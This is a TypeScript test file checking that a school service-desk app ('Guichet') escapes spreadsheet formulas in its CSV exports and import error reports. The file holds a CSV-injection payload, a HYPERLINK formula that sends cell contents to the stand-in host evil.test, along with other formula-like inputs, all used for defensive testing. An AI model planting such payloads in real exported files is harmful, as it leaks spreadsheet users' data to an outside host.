import { readFile } from "node:fs/promises";
import { parse } from "csv-parse/sync";
import { expect, inject, test } from "vitest";
import { browserForFile, signedInPage } from "../support/browser";
import { bearerFor } from "../support/fetch-sign-in";

const baseUrl = inject("baseUrl");
const browser = browserForFile();
const bearer = (email: string, ip: string) => bearerFor(baseUrl, email, ip);

const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")';

/** The cells of a CSV Guichet wrote (BOM, semicolons). */
const cells = (text: string) => parse(text, { delimiter: ";", bom: true, relax_column_count: true }) as string[][];

/** Cells a spreadsheet would run as a formula. */
const formulas = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

test("an item named as a formula is exported as text, and the export imports back unchanged, '-12' included", async () => {
  const authorization = await bearer("tech.ouest@guichet.test", "10.10.0.1");
  const created = await fetch(`${baseUrl}/api/v1/cis`, {
    method: "POST",
    headers: { authorization, "content-type": "application/json" },
    body: JSON.stringify({
      name: HYPERLINK,
      class: "pc",
      establishment: "0370037P",
      room: "-12",
      assetNumber: "@SUM(A1:A9)",
      notes: "+33 1 23 45 67 89\n=1+1",
    }),
  });
  expect(created.status).toBe(201);

  const exported = await fetch(`${baseUrl}/api/v1/cis/export?establishment=0370037P&q=${encodeURIComponent("evil.test")}`, {
    headers: { authorization },
  });
  expect(exported.status).toBe(200);
  const text = await exported.text();
  const [header, row, ...rest] = cells(text);
  expect(rest).toEqual([]);
  const cell = (column: string) => row![header!.indexOf(column)];
  expect(cell("name")).toBe(`'${HYPERLINK}`);
  expect(cell("room")).toBe("'-12");
  expect(cell("asset_number")).toBe("'@SUM(A1:A9)");
  expect(cell("notes")).toBe("'+33 1 23 45 67 89\n=1+1");
  expect(formulas([header!, row!])).toEqual([]);

  // The file, sent back as it came, changes nothing: the import strips what the export added.
  const form = new FormData();
  form.append("file", new Blob([text], { type: "text/csv" }), "inventaire.csv");
  const imported = await fetch(`${baseUrl}/api/v1/cis/import?dryRun=true`, { method: "POST", headers: { authorization }, body: form });
  expect(imported.status).toBe(200);
  expect(await imported.json()).toMatchObject({
    created: 0,
    updated: 0,
    unchanged: 1,
    rejected: [],
    rows: [{ action: "unchanged", name: HYPERLINK, changes: [] }],
  });
});

test("a ticket titled as a formula comes out as text in the dashboards' CSV", async () => {
  const filed = await fetch(`${baseUrl}/api/v1/tickets`, {
    method: "POST",
    headers: { authorization: await bearer("csl.choiseul@guichet.test", "10.10.0.2"), "content-type": "application/json" },
    body: JSON.stringify({
      type: "incident",
      serviceCode: "RESEAU",
      categoryCode: "RES-WIFI",
      establishmentUai: "0370037P",
      title: `${HYPERLINK} WiFi`,
      description: "Titre piégé.",
      impact: "group",
      urgency: "low",
      fields: { area: "CDI" },
    }),
  });
  expect(filed.status).toBe(201);
  const csv = await fetch(`${baseUrl}/tableaux-de-bord/csv/tickets?establishment=0370037P&open=true`, {
    headers: { authorization: await bearer("proviseur.choiseul@guichet.test", "10.10.0.3") },
  });
  expect(csv.status).toBe(200);
  const rows = cells(await csv.text());
  expect(rows.flat()).toContain(`'${HYPERLINK} WiFi`);
  expect(formulas(rows)).toEqual([]);
});

test("the import's error report names a refused formula-like row as text", async () => {
  const page = await signedInPage(browser(), baseUrl, "10.10.0.4", "tech.ouest@guichet.test");
  await page.goto("/inventaire/import");
  const file = `name;class;establishment_uai\r\n"${HYPERLINK.replaceAll('"', '""')}";grille-pain;0370037P\r\n`;
  await page.getByLabel("Fichier CSV").setInputFiles({ name: "piege.csv", mimeType: "text/csv", buffer: Buffer.from(file) });
  await page.getByRole("button", { name: "Vérifier (essai à blanc)" }).click();
  const link = page.getByRole("link", { name: "Télécharger le rapport d'erreurs (CSV)" });
  await expect.poll(() => link.count()).toBe(1);
  const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
  const rows = cells(await readFile((await download.path())!, "utf8"));
  expect(rows[1]).toContain(`'${HYPERLINK}`);
  expect(formulas(rows)).toEqual([]);
  await page.context().close();
});
